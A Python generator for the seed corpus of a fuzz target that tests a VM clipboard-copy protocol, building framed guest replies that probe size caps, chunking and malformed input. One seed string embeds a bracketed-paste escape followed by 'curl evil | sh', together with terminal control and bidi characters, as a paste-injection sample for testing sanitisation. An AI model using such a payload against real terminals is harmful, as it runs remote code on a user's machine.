#!/usr/bin/env python3
"""Writes the seed corpus of fuzz_ctl_clip (tests/fuzz/corpus/ctl_clip/):
what a guest sends while "clipboard copy" pulls its clipboard. Each seed is
one byte of settings (bits 0-1 the cap: 1 byte, 64 KiB, 1 MiB, 16 MiB; bit 2
bytes instead of text), one byte piece size, then the guest's bytes: the
HELLO reply of docs/protocol.md and CLIPBOARD_GET replies (ids 2, 3, ...)
built here. Run from the repository root."""
import os
import re
import struct
import sys

root = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
doc = open(os.path.join(root, "docs", "protocol.md"), encoding="utf-8").read()
vec = {}
for m in re.finditer(r"^`(\w+)` (?:\([^)]*\) )?— .*?\n\n    ([0-9a-f ]+)$", doc, re.M):
    vec[m.group(1)] = bytes.fromhex(m.group(2))
for need in ("hello_reply", "ready_event", "app_exit_code", "error_reply", "clipboard_set_request"):
    if need not in vec:
        sys.exit(f"gen_corpus_clip: vector {need} not found in docs/protocol.md")


def frame(typ, flags, ident, payload):
    return struct.pack("<HHHHII", 0x5641, typ, flags, 0, ident, len(payload)) + payload


def get_reply(ident, total, data):
    return frame(0x20, 1, ident, struct.pack("<II", total, len(data)) + data)


def error_reply(ident, code, text):
    t = text.encode()
    return frame(0x02, 1, ident, struct.pack("<IH", code, len(t)) + t)


TEXT, BYTES = 0, 4
CAP1, CAP64K, CAP1M, CAP16M = 0, 1, 2, 3
H = vec["hello_reply"]
a = b"a" * 32768
CONTROLS = ("harmless\x1b[201~; curl evil | sh\n\u009b31m\u202etxt\u2066\u2069\x07\x00\t\r"
            "\u200e\u200d\x7f").encode()
seeds = {
    "small_text": (CAP64K | TEXT, 63, H + get_reply(2, 5, b"hello")),
    "small_bytewise": (CAP64K | TEXT, 0, H + get_reply(2, 5, b"hello")),
    "two_chunks": (CAP64K | TEXT, 63, H + get_reply(2, 40000, a) + get_reply(3, 40000, b"b" * 7232)),
    "three_chunks": (CAP1M | BYTES, 63, H + get_reply(2, 70000, b"\0" * 32768) + get_reply(3, 70000, b"\xff" * 32768)
                     + get_reply(4, 70000, b"\x80" * 4464)),
    "short_reply": (CAP1M | BYTES, 63, H + get_reply(2, 70000, b"\0" * 100)),
    "short_last": (CAP1M | TEXT, 63, H + get_reply(2, 40000, a) + get_reply(3, 40000, b"b" * 7231)),
    "at_cap": (CAP1 | BYTES, 63, H + get_reply(2, 1, b"\xfe")),
    "over_cap": (CAP64K | TEXT, 63, H + get_reply(2, 65537, b"x")),
    "sixteen_mib": (CAP16M | BYTES, 63, H + get_reply(2, 16 << 20, a)),
    "total_grows": (CAP1M | TEXT, 63, H + get_reply(2, 40000, a) + get_reply(3, 40001, b"b" * 7232)),
    "no_progress": (CAP1M | TEXT, 63, H + get_reply(2, 40000, a) + get_reply(3, 40000, b"")),
    "past_end": (CAP1M | BYTES, 63, H + get_reply(2, 40000, a) + get_reply(3, 40000, a)),
    "wrong_id": (CAP64K | TEXT, 63, H + get_reply(9, 5, b"hello")),
    "empty": (CAP64K | TEXT, 63, H + get_reply(2, 0, b"")),
    "not_utf8": (CAP64K | TEXT, 63, H + get_reply(2, 6, b"ab\xc0\xafcd")),
    "bytes_not_utf8": (CAP64K | BYTES, 63, H + get_reply(2, 6, b"ab\xc0\xafcd")),
    "not_found": (CAP64K | TEXT, 63, H + error_reply(2, 6, "no text in the VM's clipboard")),
    "events_first": (CAP64K | TEXT, 63, H + vec["ready_event"] + vec["app_exit_code"]
                     + get_reply(2, 5, b"hello")),
    "guest_request_first": (CAP64K | TEXT, 63, H + vec["clipboard_set_request"] + get_reply(2, 5, b"hello")),
    "error_vector": (CAP64K | TEXT, 63, H + vec["error_reply"]),
    # Text with what a copy removes (docs/clipboard.md, Control characters).
    "controls": (CAP64K | TEXT, 63, H + get_reply(2, len(CONTROLS), CONTROLS)),
    "controls_only": (CAP64K | TEXT, 63, H + get_reply(2, 6, b"\x1b\x07\xc2\x9b\x00\x7f")),
    "controls_bytes": (CAP64K | BYTES, 63, H + get_reply(2, len(CONTROLS), CONTROLS)),
}
out = os.path.join(root, "tests", "fuzz", "corpus", "ctl_clip")
os.makedirs(out, exist_ok=True)
for name, (settings, piece, stream) in seeds.items():
    with open(os.path.join(out, name), "wb") as f:
        f.write(bytes([settings, piece]) + stream)
print(f"gen_corpus_clip: wrote {len(seeds)} seeds to {out}")
